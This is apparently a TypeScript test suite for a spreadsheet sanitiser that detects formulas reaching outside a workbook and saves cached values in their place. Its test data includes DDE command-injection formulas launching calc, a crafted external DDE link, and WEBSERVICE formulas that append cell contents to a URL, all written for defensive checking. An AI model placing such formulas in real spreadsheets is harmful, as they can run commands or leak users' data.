import { MAIN, relationship, relationships, sheetXml, workbookBytes } from '../testing/package-parts';
import {
  outsideFormulas,
  outsideNames,
  reachesOutside,
  withoutOutside,
  type OtherBook,
} from '../src/outside';
import { readXlsx } from '../testing/read-xlsx';
import { saveXlsx } from '../testing/save-xlsx';

const otherBooks: OtherBook[] = [
  { target: 'http://example.com/a.xlsx', program: false },
  { target: 'Book2.xlsx', program: false },
  { target: 'cmd /C calc', program: true },
  { target: 'file:///C:/here/b.xlsx', program: false },
  { target: 'file://server/share/b.xlsx', program: false },
];

test.each([
  ['=WEBSERVICE("http://example.com/"&A1)', 'WEBSERVICE'],
  ['=_xlfn.WEBSERVICE(A1)', 'WEBSERVICE'],
  ['=1+webservice (A1)', 'WEBSERVICE'],
  ['=IF(A1,IMAGE("x"),2)', 'IMAGE'],
  ['=_xlfn._xlws.PY(0,1)', 'PY'],
  ['=RTD("prog",,"x")', 'RTD'],
  ["=cmd|' /C calc'!A0", 'a link to a program (DDE)'],
  ["='cmd'|'/C calc'!'A0'", 'a link to a program (DDE)'],
  ['=MSEXCEL|x!A1', 'a link to a program (DDE)'],
  ["='http://example.com/[b.xlsx]S'!A1", 'http://example.com/b.xlsx'],
  ['=[http://example.com/b.xlsx]S!A1', 'http://example.com/b.xlsx'],
  ["=SUM('\\\\server\\share\\[b.xlsx]S'!A1:A9)", '\\\\server\\share\\b.xlsx'],
  ['=[1]S!A1', 'http://example.com/a.xlsx'],
  ["='[1]My sheet'!A1", 'http://example.com/a.xlsx'],
  ['=[1]!Name', 'http://example.com/a.xlsx'],
  ["=[3]!'A0'", 'a link to a program (cmd /C calc)'],
  ['=[5]S!A1', 'file://server/share/b.xlsx'],
  ['=1+leak', 'the name leak'],
])('%s reaches %s', (formula, reaches) => {
  expect(reachesOutside(formula, { otherBooks, names: new Set(['LEAK']) })).toBe(reaches);
});

test.each([
  '=SUM(A1:A9)',
  '=SHARIAH.HALAL_STATUS(A2)',
  '="WEBSERVICE(1) cmd|x!A0 http://example.com/[b.xlsx]"',
  '=HYPERLINK("http://example.com/?"&A1,"x")',
  '=ENCODEURL(A1)',
  "='P|L'!A1",
  '=Table1[[#This Row],[http://x]]',
  '=Table1[a|b]',
  '=[2]S!A1',
  '=[4]S!A1',
  "='C:\\here\\[b.xlsx]S'!A1",
  '=WEBSERVICE',
  '=IMAGES(1)',
])('%s stays inside', (formula) => {
  expect(reachesOutside(formula, { otherBooks })).toBeUndefined();
});

test('names reach outside by way of others', () => {
  const names = [
    { name: 'Third', refersTo: '=Second&"x"' },
    { name: 'Second', refersTo: '=first' },
    { name: 'First', refersTo: '=IMAGE("http://example.com/")' },
    { name: 'Other', refersTo: '=Sheet1!$A$1' },
  ];
  expect(outsideNames(names).sort()).toEqual(['FIRST', 'SECOND', 'THIRD']);
});

test('a workbook is saved with values, or texts, in the place of formulas that reach outside', () => {
  const cell = (at: string, formula: string, value = '') => `<c r="${at}">${formula}${value}</c>`;
  const file = workbookBytes({
    sheets: [
      {
        name: 'S',
        xml: sheetXml(
          '<row r="1">' +
            cell('A1', '<f>_xlfn.WEBSERVICE("http://example.com/")</f>', '<v>7</v>') +
            cell('B1', '<f>[1]S!A1</f>', '<v>8</v>') +
            cell('C1', '<f>_hidden</f>') +
            cell('D1', '<f>SUM(A1:B1)</f>', '<v>15</v>') +
            '</row>',
        ),
      },
    ],
    workbook:
      '<externalReferences><externalReference r:id="rId50"/></externalReferences>' +
      '<definedNames><definedName name="_hidden" hidden="1">_xlfn.IMAGE("http://example.com/")</definedName></definedNames>',
    relationships: relationship('rId50', 'externalLink', 'externalLinks/externalLink1.xml'),
    parts: {
      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(''),
    },
    types: {
      'xl/externalLinks/externalLink1.xml':
        'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
    },
  });
  const read = readXlsx(file);
  expect(outsideFormulas(read)).toEqual([
    { sheet: 'S', row: 0, column: 0, reaches: 'WEBSERVICE' },
    { sheet: 'S', row: 0, column: 1, reaches: 'a link to a program (cmd /C calc)' },
    { sheet: 'S', row: 0, column: 2, reaches: 'the name _hidden' },
  ]);
  const saved = saveXlsx(withoutOutside(read, read), { original: file, before: read });
  expect(readXlsx(saved).sheets[0]!.cells).toEqual([
    { row: 0, column: 0, value: 7 },
    { row: 0, column: 1, value: 8 },
    { row: 0, column: 2, value: '=_hidden' },
    { row: 0, column: 3, value: 15, formula: '=SUM(A1:B1)' },
  ]);
});
